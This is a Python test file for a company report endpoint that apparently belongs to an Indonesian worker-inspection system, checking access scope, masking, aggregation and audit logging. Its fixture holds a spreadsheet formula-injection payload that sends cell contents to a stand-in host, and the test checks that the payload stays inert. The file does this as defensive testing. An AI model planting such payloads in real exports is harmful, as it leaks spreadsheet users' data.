"""The one-company sheet (issue #15 item 4), GET /api/reports/companies/{id}, against a real server:
one company only, scope-checked (outside = absent = 404), workers aggregated and suppressed for
every audience without personal data, names only for roles allowed them and asked for, follow-up
masked as on the company page, formula-like text inert in the XLSX, every download audited."""

from __future__ import annotations

import io
import subprocess

import httpx
import openpyxl
import psycopg2
import pytest

from tests.seed import seed

pytestmark = pytest.mark.slow  # company sheets (PDF) built for real, on a server of its own

FOLLOW_UP = "ZHANG WEIXIANPRIVATE dipanggil ke kantor Imigrasi, paspor EZ9911001"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.fixture(scope="module")
def sheet_data(server_url, template_db):
    data = seed(server_url, template_db)
    conn = psycopg2.connect(data.url)
    try:
        with conn, conn.cursor() as cur:
            cur.execute("UPDATE inspections SET follow_up = %s, finding = 'expired_permit' WHERE id = %s",
                        (FOLLOW_UP, data.inspection_ids[0]))
            cur.execute("UPDATE companies SET address = %s WHERE id = %s", (FORMULA, data.company_ids[0]))
    finally:
        conn.close()
    yield data
    data.close()


def sheet(data, headers, company_id, **params) -> httpx.Response:
    return httpx.get(f"{data.server.base}/api/reports/companies/{company_id}", params=params, headers=headers,
                     timeout=120)


def pdf_text(body: bytes, tmp_path) -> str:
    f = tmp_path / "sheet.pdf"
    f.write_bytes(body)
    return subprocess.run(["pdftotext", "-layout", str(f), "-"], capture_output=True, text=True, check=True).stdout


def test_viewer_pdf_one_company_aggregated_and_masked(sheet_data, tmp_path):
    cid = sheet_data.company_ids[0]  # PT Sawit Sampit Lestari, 62.02: two workers (CN, MY)
    r = sheet(sheet_data, sheet_data.headers("viewer"), cid)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/pdf" and "attachment" in r.headers["content-disposition"]
    text = pdf_text(r.content, tmp_path)
    assert "Lembar perusahaan" in text and "PT Sawit Sampit Lestari" in text
    assert "PT Mentaya Olah Sawit" not in text and "PT Jasa Palangka Raya" not in text  # that company only
    assert "Mentawa Baru Ketapang" in text or "Kotawaringin Timur" in text
    for secret in sheet_data.secrets:
        assert secret not in text
    assert "[disamarkan]" in text  # the follow-up, masked
    assert "<3" in text  # two workers: a count of persons below the threshold
    assert r.headers["x-content-hash"] in text


def test_analyst_personal_xlsx_names_and_audit(sheet_data):
    headers = sheet_data.headers("analyst")
    cid = sheet_data.company_ids[0]
    r = sheet(sheet_data, headers, cid, format="xlsx", personal="true")
    assert r.status_code == 200, r.text
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    assert book.sheetnames == ["perusahaan", "pekerja_agregat", "pekerja", "pemeriksaan"]
    names = {row[0].value for row in book["pekerja"].iter_rows(min_row=2)}
    assert names == {"ZHANG WEIXIANPRIVATE", "AHMAD BINPRIVATE"}
    follow = [row[3].value for row in book["pemeriksaan"].iter_rows(min_row=2)]
    assert follow == [FOLLOW_UP]  # with personal data: as written
    # The address that is a formula stays text: a string cell, never a formula cell.
    address = next(row[1] for row in book["perusahaan"].iter_rows(min_row=2) if row[0].value == "Alamat")
    assert address.value == FORMULA and address.data_type == "s"
    rows = sheet_data.query("""SELECT action, target, detail FROM audit_log WHERE username = %s
                                AND target = %s ORDER BY id DESC LIMIT 1""",
                            (sheet_data.username("analyst"), f"company:{cid}"))
    action, _, detail = rows[0]
    assert action == "personal.export" and detail["workers"] == 2 and detail["personal"] is True
    assert all(s not in str(detail) for s in sheet_data.secrets)

    # Without asking for personal data, the analyst's sheet is the aggregated one.
    plain = openpyxl.load_workbook(io.BytesIO(sheet(sheet_data, headers, cid, format="xlsx").content))
    assert "pekerja" not in plain.sheetnames
    assert [row[3].value for row in plain["pemeriksaan"].iter_rows(min_row=2)] != [FOLLOW_UP]
    agg = {(row[0].value, row[1].value): (row[2].value, row[3].value)
           for row in plain["pekerja_agregat"].iter_rows(min_row=2)}
    # Two workers: hidden, and the count column stays numeric (empty, never the text "<3").
    assert agg[("Pekerja aktif", "(semua)")] == (None, "disembunyikan: <3 (UU 27/2022)")
    assert all(count is None or isinstance(count, int) for count, _ in agg.values())


def test_viewer_may_not_ask_for_names(sheet_data):
    r = sheet(sheet_data, sheet_data.headers("viewer"), sheet_data.company_ids[0], format="xlsx", personal="true")
    assert r.status_code == 400
    assert sheet(sheet_data, sheet_data.headers("viewer"), sheet_data.company_ids[0], format="docx").status_code == 400


def test_outside_scope_is_404_like_absent(sheet_data):
    kotim = sheet_data.headers("analyst", ["62.02"])
    palangka_company = sheet_data.company_ids[2]
    outside = sheet(sheet_data, kotim, palangka_company)
    absent = sheet(sheet_data, kotim, 999_999_999)
    assert outside.status_code == absent.status_code == 404
    assert outside.json()["detail"].replace(str(palangka_company), "N") == \
        absent.json()["detail"].replace("999999999", "N")
    assert "PT Jasa" not in outside.text
    assert sheet(sheet_data, kotim, sheet_data.company_ids[0]).status_code == 200
    assert httpx.get(f"{sheet_data.server.base}/api/reports/companies/{palangka_company}", timeout=30).status_code == 401
